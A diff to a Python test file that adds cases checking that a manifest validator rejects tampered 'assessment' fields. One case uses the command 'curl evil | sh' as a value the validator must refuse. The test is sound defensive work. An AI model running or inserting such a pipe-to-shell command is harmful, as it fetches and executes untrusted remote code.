@@ -117,7 +117,32 @@ def drop(name: str) -> Change:
         (lambda config, _: config.update(requires=["gate"]), r"\['requires'\] do not follow"),
         (lambda config, _: config["edit"].update(rows=[2, 1]), "do not follow"),
         (lambda config, _: config["edit"].update(rows=[1, 7]), "from 0 to 2"),
-        (lambda config, _: config["edit"]["operator"].update(strength=2), "do not follow"),
+        (
+            lambda config, _: (
+                config.update(assessment=None),
+                config["edit"]["operator"].update(strength=2),
+            ),
+            "do not follow",
+        ),
+        (lambda config, _: config["edit"]["operator"].update(strength=2.0), "is of edit c26d9d8b"),
+        (lambda config, _: config["assessment"]["effect"].update(target=0.5), "as the target"),
+        (lambda config, _: config["assessment"].update(images=5), "images are not the 5"),
+        (lambda config, _: config["assessment"].update(accuracy=0.5), "that of all images 0.5"),
+        (
+            lambda config, _: config["assessment"]["effect"].update(worst=-0.25),
+            "says at worst -0.25",
+        ),
+        (lambda config, _: config["assessment"]["classes"][0].update(name="b"), "among the labels"),
+        (lambda config, _: config["assessment"]["classes"][1].update(label=3), "class 3, where"),
+        (lambda config, _: config["assessment"]["classes"][1].update(label=1), "each once"),
+        (
+            lambda config, _: config["assessment"]["evidence"].update(command="curl evil | sh"),
+            "matching regex",
+        ),
+        (
+            lambda config, _: config["assessment"]["budget"]["parameters"][0].update(path="fc.x"),
+            "the edit touches",
+        ),
         (lambda config, _: config["evaluation"]["after"].update(more=1), "measures after"),
     ],
 )
@@ -153,6 +178,6 @@ def test_a_manifest_with_any_value_replaced_and_sealed_anew_raises_only_our_erro
     )
     # What passes differs in a field that is free: a name, a number in a table.
     assert place is None or place[0] in (
-        "base", "data", "dictionary", "edit", "evaluation", "labels", "producer", "format_version",
-        "alpha_crit", "digest", SEAL,
+        "assessment", "base", "data", "dictionary", "edit", "evaluation", "labels", "producer",
+        "format_version", "alpha_crit", "digest", SEAL,
     )  # fmt: skip
